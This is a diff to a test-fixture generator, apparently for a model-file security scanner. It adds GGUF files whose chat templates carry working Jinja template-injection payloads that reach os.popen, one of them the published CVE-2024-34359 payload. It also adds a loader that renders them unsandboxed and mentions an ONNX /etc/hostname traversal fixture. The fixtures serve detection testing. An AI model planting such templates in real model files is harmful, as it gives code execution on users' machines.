@@ -3,7 +3,7 @@
 
 Run:  /usr/bin/python3 tests/data/models/generate.py
 Needs Debian's python3-torch python3-numpy python3-sklearn python3-joblib
-python3-h5py python3-onnx (CI only uses the committed files).
+python3-h5py python3-onnx python3-jinja2 (CI only uses the committed files).
 
 Writes benign/*, malicious/* and expected.json next to this script.
 
@@ -45,6 +45,14 @@ PY = "/usr/bin/python3"
 ZIP_DATE = (1980, 1, 1, 0, 0, 0)
 
 EXPECTED = {}
+
+
+def gguf_with_template(template):
+    """A GGUF v3 file (the writer of tests/data/models-formats) with this chat template."""
+    sys.path.insert(0, os.path.join(HERE, "..", "models-formats"))
+    import make_fixtures as mf
+    return mf.G(3).file([("general.architecture", mf.STR, "llama"), ("tokenizer.chat_template", mf.STR, template),
+                         ("tokenizer.ggml.bos_token_id", mf.U32, 1)], [("token_embd.weight", [32, 2], "F32")])
 
 
 # ---------------------------------------------------------------------------
@@ -155,6 +163,41 @@ def pycode(name):
 # proof runner
 # ---------------------------------------------------------------------------
 
+GGUF_JINJA = "jinja2 render of the GGUF chat template (llama-cpp-python <= 0.2.71)"
+GGUF_JINJA_CODE = r"""
+import struct, sys, jinja2
+b = open(sys.argv[1], 'rb').read()
+assert b[:4] == b'GGUF' and struct.unpack_from('<I', b, 4)[0] in (2, 3)
+nk = struct.unpack_from('<Q', b, 16)[0]
+p = 24
+SIZES = {0: 1, 1: 1, 2: 2, 3: 2, 4: 4, 5: 4, 6: 4, 7: 1, 10: 8, 11: 8, 12: 8}
+def string():
+    global p
+    n = struct.unpack_from('<Q', b, p)[0]
+    p += 8 + n
+    return b[p - n:p].decode()
+def value(t):
+    global p
+    if t == 8:
+        return string()
+    if t == 9:
+        et, n = struct.unpack_from('<IQ', b, p)
+        p += 12
+        return [value(et) for _ in range(n)]
+    p += SIZES[t]
+    return None
+meta = {}
+for _ in range(nk):
+    k = string()
+    t = struct.unpack_from('<I', b, p)[0]
+    p += 4
+    meta[k] = value(t)
+tmpl = meta['tokenizer.chat_template']
+env = jinja2.Environment(loader=jinja2.BaseLoader())
+env.from_string(tmpl).render(messages=[{'role': 'user', 'content': 'hi'}], add_generation_prompt=True,
+                             bos_token='<s>', eos_token='</s>')
+"""
+
 LOADERS = {
     "pickle.load": "import pickle,sys; pickle.load(open(sys.argv[1],'rb'))",
     "torch.load": "import torch,sys; torch.load(sys.argv[1], weights_only=False)",
@@ -171,6 +214,10 @@ LOADERS = {
     "pickle.load(gzip.open)": "import gzip,pickle,sys; pickle.load(gzip.open(sys.argv[1]))",
     # onnx: no code runs; the harness writes the marker iff onnx.load pulled the bytes of
     # /etc/hostname (outside the model's directory) into the tensor.
+    # GGUF chat templates: llama-cpp-python up to 0.2.71 rendered tokenizer.chat_template with a plain
+    # jinja2.Environment (CVE-2024-34359, "Llama Drama"). The loader reads the GGUF metadata itself
+    # (the format's own layout, v2/v3) and renders the template that way, with one user message.
+    GGUF_JINJA: GGUF_JINJA_CODE,
     "onnx.load": "import onnx,sys; m=onnx.load(sys.argv[1]); d=m.graph.initializer[0].raw_data; "
                  "t=open('/etc/hostname','rb').read(); "
                  "(d == t and len(t) > 0) and open(sys.argv[2],'w').close()",
@@ -375,6 +422,12 @@ def make_benign():
     onnx.checker.check_model(model)
     onnx.save(model, os.path.join(BENIGN, "tiny.onnx"))
     benign("tiny.onnx", "onnx", "Gemm+Sigmoid, initializers inline", None)
+
+    chatml = ("{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + "
+              "'<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}"
+              "{% endif %}")
+    write(os.path.join(BENIGN, "chatml.gguf"), gguf_with_template(chatml))
+    benign("chatml.gguf", "gguf", "GGUF v3 with a ChatML chat template and one F32 tensor", GGUF_JINJA)
 
     # --- the project's own example (referenced, not copied) ---
     EXPECTED["../../../examples/readmission/model/readmission_model.pkl"] = {
@@ -857,6 +910,19 @@ def make_malicious():
 
     # ---- 7. onnx external data --------------------------------------------
     make_onnx_traversal()
+
+    # ---- 8. GGUF chat templates that escape an unsandboxed Jinja environment ----
+    n = "gguf_template_subclasses"
+    M(n + ".gguf", gguf_with_template(
+        "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}"
+        "{{ x()._module.__builtins__['__import__']('os').popen('" + sh(n) + "').read() }}"
+        "{% endif %}{% endfor %}"),
+      "gguf", "chat template walks object.__subclasses__() to warnings.catch_warnings and imports os "
+      "(the published CVE-2024-34359 payload)", [GGUF_JINJA], source="CVE-2024-34359 (llama-cpp-python)")
+    n = "gguf_template_lipsum_globals"
+    M(n + ".gguf", gguf_with_template("{{ lipsum.__globals__['os'].popen('" + sh(n) + "').read() }}"),
+      "gguf", "chat template reaches os through the lipsum global's __globals__", [GGUF_JINJA],
+      source="Jinja SSTI technique against GGUF chat templates")
 
 
 def main():
